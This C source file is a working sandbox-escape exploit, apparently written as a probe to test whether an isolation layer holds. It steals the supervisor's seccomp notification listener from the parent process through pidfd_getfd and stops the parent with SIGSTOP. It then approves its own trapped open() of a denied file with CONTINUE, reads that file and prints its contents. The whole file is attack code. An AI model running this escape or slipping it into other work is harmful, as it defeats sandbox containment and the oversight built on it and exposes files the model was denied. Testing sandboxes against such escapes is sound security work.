/* The complete escape: take the supervisor's seccomp listener out of the
 * parent (pidfd_getfd), stop the parent, and answer our own trapped open
 * of a denied FILE with CONTINUE from a thread of our own.
 *
 *   isolation_escape FILE
 *
 * Prints "listener N" (1 if a listener was taken) and "escaped N" (1 if
 * FILE was read). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static int listener = -1;
static volatile int go;

static void *answer(void *unused) {
    (void)unused;
    while (!go)
        usleep(1000);
    for (;;) {
        struct seccomp_notif req;
        memset(&req, 0, sizeof req);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) {
            if (errno == EINTR || errno == ENOENT)
                continue;
            return NULL;
        }
        struct seccomp_notif_resp resp;
        memset(&resp, 0, sizeof resp);
        resp.id = req.id;
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
}

int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    pid_t parent = getppid();
    long pidfd = syscall(SYS_pidfd_open, parent, 0);
    for (int fd = 3; pidfd >= 0 && fd < 256 && listener < 0; fd++) {
        long got = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (got < 0)
            continue;
        unsigned long long id = 0;
        if (ioctl(got, SECCOMP_IOCTL_NOTIF_ID_VALID, &id) != 0 && errno == ENOENT)
            listener = got;
        else
            close(got);
    }
    printf("listener %d\n", listener >= 0);
    fflush(stdout);
    if (listener < 0) {
        printf("escaped 0\n");
        return 0;
    }
    pthread_t t;
    pthread_create(&t, NULL, answer, NULL);
    kill(parent, SIGSTOP);
    go = 1;
    usleep(100000);
    char buf[256] = {0};
    int fd = open(argv[1], O_RDONLY);
    long n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
    kill(parent, SIGCONT);
    printf("escaped %d\n", n > 0);
    if (n > 0)
        printf("content %s\n", buf);
    fflush(stdout);
    _exit(0);
}
